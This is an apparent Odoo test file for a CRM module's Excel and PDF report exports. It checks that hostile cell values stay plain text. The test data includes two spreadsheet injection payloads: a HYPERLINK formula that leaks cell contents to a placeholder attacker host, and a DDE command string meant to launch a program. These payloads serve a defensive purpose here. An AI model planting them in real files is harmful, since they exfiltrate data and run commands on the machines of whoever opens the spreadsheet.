# Copyright 2026 CRM Suite Authors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
from datetime import date

from odoo.tests import HttpCase, tagged

from .common import ReportsCommon, at

MARCH = (date(2026, 3, 1), date(2026, 3, 31))
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@tagged("post_install", "-at_install")
class TestReportExports(ReportsCommon, HttpCase):
    """Excel files: text stays text, the layout a manager expects, every report; the PDF summary."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.source = cls.env["utm.source"].create({"name": "=1+1"})
        with at(cls.env, "2026-03-04 09:00:00"):
            cls.lead = cls.env["crm.lead"].create(
                {
                    "name": HOSTILE,
                    "type": "opportunity",
                    "source_id": cls.source.id,
                    "user_id": cls.salesman_1.id,
                    "team_id": cls.team.id,
                    "company_id": cls.company.id,
                    "expected_revenue": 500.0,
                }
            )
        cls.customer.name = "@SUM(1+1)*cmd|' /C calc'!A0"
        cls._invoice(cls.salesman_1, [300.00], "2026-03-04")
        cls._plan(MARCH[0], [(cls.salesman_1, 1000.0), (False, 1000.0)])

    def test_text_cells_never_become_formulas(self):
        content = self._export("intake", *MARCH, group_by="source_id")
        for book in (self._workbook_formulas(content), self._workbook(content)):
            details = book["Details"]
            cells = [cell for row in details.iter_rows() for cell in row if cell.value in (HOSTILE, "=1+1")]
            self.assertEqual({cell.value for cell in cells}, {HOSTILE, "=1+1"})
            self.assertTrue(all(cell.data_type == "s" for cell in cells), "written as text")
        summary = self._workbook_formulas(content)["Summary"]
        self.assertEqual(self._row_with(summary, "=1+1")[0], "=1+1")
        sales = self._workbook_formulas(self._export("sales", *MARCH))["Details"]
        customer_cells = [
            cell for row in sales.iter_rows() for cell in row if cell.value == self.customer.name
        ]
        self.assertTrue(customer_cells and all(cell.data_type == "s" for cell in customer_cells))

    def test_pipeline_export_keeps_text_as_text(self):
        content, _kind = self.env["ir.actions.report"]._render_xlsx(
            "crm_reports.crm_lead_pipeline_xlsx", self.lead.ids, data={}
        )
        sheet = self._workbook_formulas(content).active
        self.assertEqual(sheet["A2"].value, HOSTILE)
        self.assertEqual(sheet["A2"].data_type, "s")
        self.assertEqual(sheet.freeze_panes, "A2")
        self.assertPrintsOnePageWide(sheet)
        self.assertEqual(sheet.print_title_rows, "$1:$1")

    def test_every_report_exports(self):
        for report_type in ("intake", "funnel", "sales", "activity", "plan"):
            with self.subTest(report=report_type):
                content = self._export(report_type, *MARCH)
                book = self._workbook(content)
                self.assertEqual(book.sheetnames, ["Summary", "Details"])
                summary = book["Summary"]
                column = [cell.value for cell in summary["A"]]
                self.assertIn("Company: " + self.company.name, column)
                self.assertIn("Period: 2026-03-01 - 2026-03-31", column)
                self.assertIn("Total", column)
                self.assertTrue(summary.freeze_panes)
                self.assertTrue(self._charts(content), "a native Excel chart")
                self.assertIn("Grand Total", [cell.value for cell in book["Details"]["A"]])
                for sheet in book.worksheets:
                    self.assertPrintsOnePageWide(sheet)

    def assertPrintsOnePageWide(self, sheet):
        self.assertEqual(sheet.page_setup.orientation, "landscape")
        self.assertEqual(str(sheet.page_setup.paperSize), "9", "A4")
        self.assertTrue(sheet.sheet_properties.pageSetUpPr.fitToPage)
        # one page wide (1 is the file format's default, so the attribute may be left out), any height
        self.assertIn(sheet.page_setup.fitToWidth, (None, 1))
        self.assertEqual(sheet.page_setup.fitToHeight, 0)
        self.assertTrue(sheet.print_title_rows, "column titles repeated on every page")
        self.assertIn("&P", sheet.oddFooter.center.text)

    def test_russian_export(self):
        self.env["res.lang"]._activate_lang("ru_RU")
        self.env.user.lang = "ru_RU"
        wizard = (
            self.env["crm.report.export"]
            .with_context(lang="ru_RU")
            .create(
                {"report_type": "sales", "date_from": MARCH[0], "date_to": MARCH[1], "group_by": "user_id"}
            )
        )
        content, _kind = (
            self.env["ir.actions.report"]
            .with_context(lang="ru_RU")
            ._render_xlsx("crm_reports.crm_report_xlsx", wizard.ids, data={})
        )
        book = self._workbook(content)
        self.assertEqual(book.sheetnames, ["Сводка", "Строки"])
        self.assertEqual(book["Сводка"]["A1"].value, "Продажи")
        self.assertIsNotNone(self._row_with(book["Сводка"], "Итого"))

    def test_pdf_management_summary(self):
        wizard = self.env["crm.report.export"].create(
            {
                "report_type": "sales",
                "date_from": MARCH[0],
                "date_to": MARCH[1],
                "team_ids": [(6, 0, self.team.ids)],
            }
        )
        html = (
            self.env["ir.actions.report"]
            ._render_qweb_html("crm_reports.crm_report_summary_pdf", wizard.ids)[0]
            .decode()
        )
        for text in (
            "Management Summary",
            "Plan vs fact",
            "Top 10 products",
            "Salesperson ranking",
            "Calls and meetings",
        ):
            self.assertIn(text, html)
        self.assertIn(self.salesman_1.name, html)
        self.assertIn("Unassigned remainder", html)
        pdf, kind = (
            self.env["ir.actions.report"]
            .with_context(force_report_rendering=True)
            ._render_qweb_pdf("crm_reports.crm_report_summary_pdf", wizard.ids)
        )
        self.assertEqual(kind, "pdf")
        self.assertTrue(pdf.startswith(b"%PDF"))

    def test_wizard_download_through_the_report_route(self):
        self.authenticate(self.leader.login, self.leader.login)
        wizard = (
            self.env["crm.report.export"]
            .with_user(self.leader)
            .create({"report_type": "sales", "date_from": MARCH[0], "date_to": MARCH[1]})
        )
        action = wizard.action_export_xlsx()
        self.assertEqual(action["report_type"], "xlsx")
        response = self.url_open(f"/report/xlsx/crm_reports.crm_report_xlsx/{wizard.id}")
        self.assertEqual(response.status_code, 200)
        self.assertEqual(self._row_with(self._workbook(response.content)["Summary"], "Total")[1], 300.0)
